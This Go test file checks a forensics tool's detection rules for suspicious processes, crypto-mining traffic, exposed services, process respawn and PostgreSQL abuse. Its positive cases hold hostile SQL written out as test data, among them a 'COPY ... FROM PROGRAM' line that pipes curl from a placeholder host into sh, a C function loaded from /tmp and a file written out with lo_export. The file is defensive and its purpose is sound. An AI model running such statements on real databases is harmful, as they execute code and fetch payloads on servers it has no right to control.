package findings

import (
	"strings"
	"testing"
	"time"

	"github.com/cordon-forensics/cordon/analyzer/rules"
	"github.com/cordon-forensics/cordon/timeline"
)

func proc(name, exe, parent string, labels map[string]string) timeline.Event {
	return timeline.Event{
		Timestamp: time.Date(2026, 11, 20, 3, 14, 0, 0, time.UTC),
		Message:   "process " + name,
		Event:     timeline.EventFields{Dataset: "processes", Action: "process-started"},
		Process:   &timeline.Process{PID: 4242, Name: name, Executable: exe, Parent: &timeline.ParentProcess{PID: 100, Name: parent}},
		Labels:    labels,
		Cordon:    timeline.Cordon{Provenance: timeline.Provenance{Bundle: "EV-1", Entry: "volatile/processes.json", Offset: 77}},
	}
}

func conn(dataset string, port int, proto string) timeline.Event {
	return timeline.Event{
		Event:       timeline.EventFields{Dataset: dataset, Action: "connection"},
		Destination: &timeline.Endpoint{IP: "203.0.113.9", Port: port},
		Network:     &timeline.Network{Transport: "tcp", Protocol: proto},
	}
}

func indicator(kind, value string) timeline.Event {
	return timeline.Event{Message: kind + " " + value, Event: timeline.EventFields{Dataset: "indicators", Action: "indicator-found"},
		Labels: map[string]string{"indicator.kind": kind, "indicator.value": value}}
}

func pg(msg string) timeline.Event {
	return timeline.Event{Message: msg, Event: timeline.EventFields{Dataset: "postgresql", Action: "statement"}}
}

// cases lists, for every built-in rule, events it must match and events it must not.
var cases = map[string]struct{ pos, neg []timeline.Event }{
	"CORDON-PROC-001": {
		pos: []timeline.Event{proc("mysql", "/tmp/mysql (deleted)", "bash", nil)},
		neg: []timeline.Event{proc("mysqld", "/usr/sbin/mysqld", "systemd", nil), proc("x", "/opt/(deleted)/x", "bash", nil)},
	},
	"CORDON-PROC-002": {
		pos: []timeline.Event{proc("x", "/memfd:payload (deleted)", "bash", nil)},
		neg: []timeline.Event{proc("x", "/usr/bin/memfd:x", "bash", nil)},
	},
	"CORDON-PROC-003": {
		pos: []timeline.Event{proc("mysql", "/tmp/mysql (deleted)", "sh", nil), proc("k", "/dev/shm/k", "sh", nil)},
		neg: []timeline.Event{proc("tmpreaper", "/usr/sbin/tmpreaper", "cron", nil), proc("x", "/tmpx/y", "sh", nil)},
	},
	"CORDON-PROC-004": {
		pos: []timeline.Event{proc("sh", "/usr/bin/sh", "postgres", nil), proc("mysql", "/tmp/mysql", "postgres", nil)},
		neg: []timeline.Event{proc("sh", "/usr/bin/sh", "sshd", nil), proc("postgres", "/usr/lib/postgresql/15/bin/postgres", "postgres", nil)},
	},
	"CORDON-PROC-005": {
		pos: []timeline.Event{proc("x", "/usr/bin/x", "init", map[string]string{"hidden": "true"})},
		neg: []timeline.Event{proc("x", "/usr/bin/x", "init", map[string]string{"hidden": "false"}), proc("x", "/usr/bin/x", "init", nil)},
	},
	"CORDON-NET-001": {
		pos: []timeline.Event{conn("sockets", 3333, ""), conn("pcap", 14444, "")},
		neg: []timeline.Event{conn("sockets", 443, ""), conn("auth", 3333, "")},
	},
	"CORDON-NET-002": {
		pos: []timeline.Event{conn("pcap", 80, "stratum")},
		neg: []timeline.Event{conn("pcap", 3333, "tls"), conn("sockets", 3333, "stratum")},
	},
	"CORDON-NET-003": {
		pos: []timeline.Event{indicator("mining pool URL", "stratum+tcp://pool.example:3333"), indicator("Monero wallet", "4AAA"), indicator("stratum method", `"method":"login"`)},
		neg: []timeline.Event{indicator("miner name or option", "randomx"), indicator("host:port on a mining port", "10.0.0.1:3333"), conn("pcap", 3333, "stratum")},
	},
	"CORDON-PG-001": {
		pos: []timeline.Event{
			pg(`statement: COPY t FROM PROGRAM 'curl http://x/m | sh'`),
			pg(`statement: copy (select 1) to program 'id'`),
			pg(`statement: CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int AS '/tmp/x.so' LANGUAGE C STRICT`),
			pg(`statement: SELECT lo_export(16400, '/tmp/mysql')`),
			pg(`statement: SELECT pg_read_server_files`),
		},
		neg: []timeline.Event{
			pg(`statement: COPY t TO STDOUT`),
			pg(`statement: CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'`),
			proc("x", "/x", "y", nil),
		},
	},
}

func builtin(t *testing.T) []Rule {
	t.Helper()
	rs, err := LoadRules(rules.FS)
	if err != nil {
		t.Fatal(err)
	}
	return rs
}

func TestEveryBuiltinRulePositiveAndNegative(t *testing.T) {
	for _, r := range builtin(t) {
		t.Run(r.ID, func(t *testing.T) {
			if r.Respawn != nil {
				if !aggregateTested[r.ID] {
					t.Fatalf("aggregating rule %s has no test of its own", r.ID)
				}
				return
			}
			if r.Check != nil {
				c, ok := checkCases[r.ID]
				if !ok || len(c.pos) == 0 || len(c.neg) == 0 {
					t.Fatalf("check rule %s has no positive and negative scenarios", r.ID)
				}
				run := func(evs []timeline.Event) []Finding {
					e := NewEngine([]Rule{r})
					for _, ev := range evs {
						e.Add(ev)
					}
					return e.Findings()
				}
				for i, sc := range c.pos {
					fs := run(sc)
					if len(fs) != 1 || len(fs[0].Instances) == 0 || len(fs[0].Evidence) == 0 {
						t.Errorf("positive scenario %d: %+v", i, fs)
					} else {
						t.Logf("positive scenario %d: %s", i, fs[0].Instances[0])
					}
				}
				for i, sc := range c.neg {
					if fs := run(sc); len(fs) != 0 {
						t.Errorf("negative scenario %d found %+v", i, fs[0].Instances)
					}
				}
				return
			}
			c, ok := cases[r.ID]
			if !ok || len(c.pos) == 0 || len(c.neg) == 0 {
				t.Fatalf("rule %s has no positive and negative test cases", r.ID)
			}
			for i, ev := range c.pos {
				e := NewEngine([]Rule{r})
				e.Add(ev)
				if len(e.Findings()) != 1 {
					t.Errorf("positive case %d (%q) did not match", i, ev.Message)
				}
			}
			for i, ev := range c.neg {
				e := NewEngine([]Rule{r})
				e.Add(ev)
				if len(e.Findings()) != 0 {
					t.Errorf("negative case %d (%q) matched", i, ev.Message)
				}
			}
		})
	}
}

func TestFindingCarriesProvenanceAndOrder(t *testing.T) {
	e := NewEngine(builtin(t))
	e.Add(proc("mysql", "/tmp/mysql (deleted)", "postgres", nil))
	fs := e.Findings()
	if len(fs) < 3 || fs[0].Severity != "critical" || fs[0].RuleID != "CORDON-PROC-004" {
		t.Fatalf("findings %v", fs)
	}
	ev := fs[0].Evidence[0]
	if ev.Provenance.Entry != "volatile/processes.json" || ev.Provenance.Offset != 77 || ev.Provenance.Bundle != "EV-1" {
		t.Errorf("provenance %+v", ev.Provenance)
	}
	if fs[0].Attack.ID != "T1190" || !strings.Contains(fs[0].String(), "T1190") {
		t.Errorf("attack %+v", fs[0].Attack)
	}
}

func TestParseRulesRejectsBadRules(t *testing.T) {
	for name, y := range map[string]string{
		"no why":       "- {id: A, title: t, severity: low, attack: {id: T1}, match: [{field: message, equals: x}]}",
		"bad severity": "- {id: A, title: t, severity: huge, why: w, attack: {id: T1}, match: [{field: message, equals: x}]}",
		"bad regex":    "- {id: A, title: t, severity: low, why: w, attack: {id: T1}, match: [{field: message, regex: '('}]}",
		"empty cond":   "- {id: A, title: t, severity: low, why: w, attack: {id: T1}, match: [{field: message}]}",
		"not yaml":     "{{{",
	} {
		if _, err := ParseRules(name, []byte(y)); err == nil {
			t.Errorf("%s: accepted", name)
		}
	}
}

// TestEvidenceIsBounded: past MaxEvidence the earliest events are kept,
// whatever order they came in (here the latest first), the count stays
// exact, and the same event read twice is cited once.
func TestEvidenceIsBounded(t *testing.T) {
	e := NewEngine(builtin(t))
	e.MaxEvidence = 3
	for i := 9; i >= 0; i-- {
		ev := proc("k", "/dev/shm/k", "sh", nil)
		ev.Cordon.Provenance.Line = int64(i + 1)
		e.Add(ev)
		if i == 0 {
			e.Add(ev)
		}
	}
	for _, f := range e.Findings() {
		if len(f.Evidence) != 3 || e.Matched[f.RuleID] != 11 {
			t.Errorf("%s: %d evidence, %d matched", f.RuleID, len(f.Evidence), e.Matched[f.RuleID])
			continue
		}
		for i, ev := range f.Evidence {
			if ev.Provenance.Line != int64(i+1) {
				t.Errorf("%s: evidence %d is line %d, want %d", f.RuleID, i, ev.Provenance.Line, i+1)
			}
		}
	}
}

func listen(port int, all bool) timeline.Event {
	ev := timeline.Event{
		Event:  timeline.EventFields{Dataset: "sockets", Action: "socket-listening"},
		Source: &timeline.Endpoint{IP: "0.0.0.0", Port: port},
		Labels: map[string]string{},
	}
	if all {
		ev.Labels["all_interfaces"] = "true"
	}
	return ev
}

func init() {
	cases["CORDON-EXP-001"] = struct{ pos, neg []timeline.Event }{
		pos: []timeline.Event{listen(5432, true), listen(2375, true)},
		neg: []timeline.Event{listen(5432, false), listen(22, true)},
	}
}

func started(pid, ppid int64, exe string, at time.Duration) timeline.Event {
	ev := proc("mysql", exe, "sh", nil)
	ev.Process.PID, ev.Process.Parent.PID = pid, ppid
	ev.Process.Start = time.Date(2026, 11, 20, 3, 0, 0, 0, time.UTC).Add(at)
	ev.Message = "start " + itoa(pid)
	return ev
}

func init() {
	cases["CORDON-PROC-006"] = struct{ pos, neg []timeline.Event }{
		pos: []timeline.Event{proc("mysql", "/tmp/mysql (deleted)", "sh", nil), proc("sshd", "/dev/shm/sshd", "sh", nil)},
		neg: []timeline.Event{proc("mysqld", "/usr/sbin/mysqld", "systemd", nil), proc("xmrig", "/tmp/xmrig", "sh", nil)},
	}
	cases["CORDON-PROC-007"] = struct{ pos, neg []timeline.Event }{
		pos: []timeline.Event{proc("kworker/0:2", "/tmp/.x/miner (deleted)", "sh", nil)},
		neg: []timeline.Event{
			proc("mysql", "/tmp/mysql (deleted)", "sh", nil),
			proc("a-very-long-pro", "/opt/a-very-long-program-name", "sh", nil),
			proc("script.py", "/usr/bin/python3.11", "sh", nil),
		},
	}
}

// aggregateTested lists the aggregating rules tested by their own test below.
var aggregateTested = map[string]bool{"CORDON-PROC-008": true}

// Respawn needs several events at once, so it is tested apart.
func TestRespawn(t *testing.T) {
	var r Rule
	for _, x := range builtin(t) {
		if x.ID == "CORDON-PROC-008" {
			r = x
		}
	}
	if r.Respawn == nil || r.Respawn.Window != 30*time.Second {
		t.Fatalf("respawn rule not loaded: %+v", r)
	}
	run := func(evs ...timeline.Event) []Evidence {
		e := NewEngine([]Rule{r})
		for _, ev := range evs {
			e.Add(ev)
		}
		fs := e.Findings()
		if len(fs) == 0 {
			return nil
		}
		return fs[0].Evidence
	}
	// Positive: killed at +0, restarted by the watchdog 5 s later (seen in two snapshots).
	got := run(started(500, 400, "/tmp/mysql (deleted)", 0), started(511, 400, "/tmp/mysql", 5*time.Second),
		started(511, 400, "/tmp/mysql", 5*time.Second))
	if len(got) != 2 || got[0].Message != "start 500" || got[1].Message != "start 511" {
		t.Errorf("respawn not found: %+v", got)
	}
	// Negative: same process in two snapshots; different parents; a restart a day later.
	for name, evs := range map[string][]timeline.Event{
		"same process": {started(500, 400, "/tmp/mysql", 0), started(500, 400, "/tmp/mysql", 0)},
		"other parent": {started(500, 400, "/tmp/mysql", 0), started(511, 401, "/tmp/mysql", time.Second)},
		"a day later":  {started(500, 400, "/tmp/mysql", 0), started(511, 400, "/tmp/mysql", 24*time.Hour)},
		"other exe":    {started(500, 400, "/tmp/mysql", 0), started(511, 400, "/tmp/other", time.Second)},
	} {
		if got := run(evs...); got != nil {
			t.Errorf("%s: respawn reported: %+v", name, got)
		}
	}
}
